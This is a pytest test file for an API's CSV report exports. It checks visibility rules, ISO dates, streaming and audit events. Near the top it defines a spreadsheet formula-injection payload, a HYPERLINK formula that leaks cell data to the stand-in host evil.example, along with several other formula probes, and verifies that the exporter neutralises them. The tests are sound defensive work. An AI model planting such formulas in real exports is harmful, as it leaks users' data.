"""CSV exports: visibility, ISO dates, formula injection, and the one `export` audit event."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from api.core.audit import AuditEvent
from tests.factories import Factory
from tests.practice import Practice
from tests.reports.dataset import Builder

WINDOW = {"from": "2026-01-01", "to": "2026-06-30"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _csv(
    client: TestClient, make: Factory, user: Any, path: str, **params: str
) -> list[dict[str, str]]:
    response = client.get(
        f"/api/v1/reports/{path}", params={**WINDOW, **params}, headers=make.headers(user)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_cases_csv_neutralises_formulas_and_keeps_iso_dates(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    evil = dataset.case(
        "Evil",
        lead=practice.lead,
        model="johnson",
        created="2026-04-01T15:00:00",
        status="intake",
        first_name=FORMULA,
        summary="+SUM(A1:A9)",
    )
    db.commit()
    rows = _csv(client, make, practice.supervisor, "cases.csv")
    by_reference = {r["reference"]: r for r in rows}
    # Open at some time in the window: A, B, C, D, E, H and the new one (F opened after it).
    assert len(rows) == 7
    row = by_reference[evil.reference]
    assert row["client_first_name"] == "'" + FORMULA
    assert row["summary"] == "'+SUM(A1:A9)"
    a = by_reference[dataset.cases["A"].reference]
    assert a["created_at"] == "2026-01-10T15:00:00+00:00"
    assert a["intervention_held_at"] == "2026-02-09T15:00:00+00:00"
    assert a["first_admitted_at"] == "2026-02-11T15:00:00+00:00"
    assert a["lead"] == practice.lead.full_name


def test_check_ins_and_referrals_csv(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    a = dataset.cases["A"]
    dataset.check_in(a, "2026-06-01T15:00:00", note="-2+3 @cmd")
    dataset.check_in(a, "2026-06-02T15:00:00", note="\tindented")
    dataset.referral(a, created="2026-06-03T15:00:00", summary="@SUM(1)")
    db.commit()
    check_ins = _csv(client, make, practice.supervisor, "check-ins.csv")
    assert len(check_ins) == 7  # 5 in the window from the data set, 2 here
    notes = {r["note"] for r in check_ins}
    assert "'-2+3 @cmd" in notes
    assert "'\tindented" in notes
    assert {r["respondent"] for r in check_ins} == {"client", "Rosa Tester"}
    referrals = _csv(client, make, practice.supervisor, "referrals.csv")
    # Created in the window: A's (Feb 5), C's (Feb 10), D's (Jan 20) and the new one.
    assert len(referrals) == 4
    assert "'@SUM(1)" in {r["summary"] for r in referrals}


def test_exports_follow_the_same_visibility(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder
) -> None:
    mine = _csv(client, make, practice.lead, "cases.csv")
    assert {r["client_first_name"] for r in mine} == {"A", "B", "E", "H"}
    assert _csv(client, make, practice.outsider, "referrals.csv")[0]["treatment_center"]
    assert len(_csv(client, make, practice.outsider, "cases.csv")) == 1
    forbidden = client.get(
        "/api/v1/reports/cases.csv",
        params={"lead_id": str(practice.colleague.id)},
        headers=make.headers(practice.lead),
    )
    assert forbidden.status_code == 403
    bad = client.get(
        "/api/v1/reports/check-ins.csv",
        params={"from": "2026-02-01", "to": "2026-01-01"},
        headers=make.headers(practice.supervisor),
    )
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["loc"] == ["query", "from"]


def test_each_export_is_one_audit_event_with_its_filters(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    _csv(client, make, practice.supervisor, "referrals.csv", model="arise")
    events = db.scalars(
        select(AuditEvent).where(
            AuditEvent.actor_id == practice.supervisor.id, AuditEvent.action == "export"
        )
    ).all()
    assert len(events) == 1
    assert events[0].resource_type == "referrals.csv"
    assert events[0].details == {
        "from": "2026-01-01",
        "to": "2026-06-30",
        "lead_id": None,
        "model": "arise",
    }
    listed = client.get(
        "/api/v1/audit-events", params={"action": "export"}, headers=make.headers(practice.admin)
    )
    assert listed.json()["items"][0]["details"]["model"] == "arise"


def test_a_large_export_streams_in_chunks(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    a = dataset.cases["A"]
    for day in range(2500):
        dataset.check_in(a, f"2026-02-01T{day % 24:02d}:{day % 60:02d}:{day % 59:02d}")
    db.commit()
    with client.stream(
        "GET",
        "/api/v1/reports/check-ins.csv",
        params=WINDOW,
        headers=make.headers(practice.supervisor),
    ) as response:
        chunks = [chunk for chunk in response.iter_text() if chunk]
    assert len(chunks) >= 3  # one per thousand rows, not the whole file at once
    assert sum(chunk.count("\n") for chunk in chunks) == 1 + 5 + 2500
